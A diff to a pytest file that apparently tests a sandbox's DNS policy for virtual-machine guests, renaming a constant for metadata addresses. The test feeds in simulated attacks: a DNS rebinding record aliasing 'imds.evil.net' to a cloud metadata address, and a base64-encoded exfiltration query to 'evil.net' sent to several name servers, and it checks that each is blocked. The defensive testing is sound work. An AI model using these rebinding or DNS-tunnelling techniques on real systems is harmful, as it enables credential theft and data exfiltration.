@@ -16,7 +16,7 @@ import dns.rcode
 import pytest
 
 from tests.kvm_xfs.test_names import SERVICE, ask, make_names_only_policy, world_with_names
-from tests.kvm_xfs.test_netns import METADATA_SERVICES, OPEN_POLICY, Guest, run_inside
+from tests.kvm_xfs.test_netns import METADATA_ADDRESSES, OPEN_POLICY, Guest, run_inside
 
 pytestmark = pytest.mark.usefixtures("requires_root")
 
@@ -31,13 +31,13 @@ async def test_allowed_names_open_neither_denied_addresses_nor_other_name_server
         w.close_at_end(machine.listen(53))
         guest = w.add_guest(await w.pool.take(make_names_only_policy(ATTACKER, "*.example.com")))
         # The name now resolves to denied addresses.
-        denied_addresses = [*METADATA_SERVICES, machine.address, machine.host_address, neighbour_slot.host_address]
+        denied_addresses = [*METADATA_ADDRESSES, machine.address, machine.host_address, neighbour_slot.host_address]
         for address in denied_addresses:
             server.records[ATTACKER] = [f"300 A {address}"]
             assert await ask(guest, ATTACKER) == (dns.rcode.NOERROR, [])
         server.records["alias.example.com"] = [
             "1 CNAME imds.evil.net.",
-            f"0 A {METADATA_SERVICES[0]}",
+            f"0 A {METADATA_ADDRESSES[0]}",
             f"0 A {SERVICE}",
         ]
         assert await ask(guest, "alias.example.com") == (dns.rcode.NOERROR, [SERVICE])
@@ -45,7 +45,7 @@ async def test_allowed_names_open_neither_denied_addresses_nor_other_name_server
         assert [each for each in denied_addresses if guest.can_reach(each, 80)] == []
         # Other names do not reach a name server, wherever the query is sent, and neither does DNS over TCP.
         server.names.clear()
-        for address in (machine.address, METADATA_SERVICES[0], "8.8.8.8", "169.254.0.22"):
+        for address in (machine.address, METADATA_ADDRESSES[0], "8.8.8.8", "169.254.0.22"):
             assert await ask(guest, "c2VjcmV0.evil.net", server=address) == (dns.rcode.REFUSED, [])
         assert not guest.can_reach(machine.address, 53)
         assert server.names == []
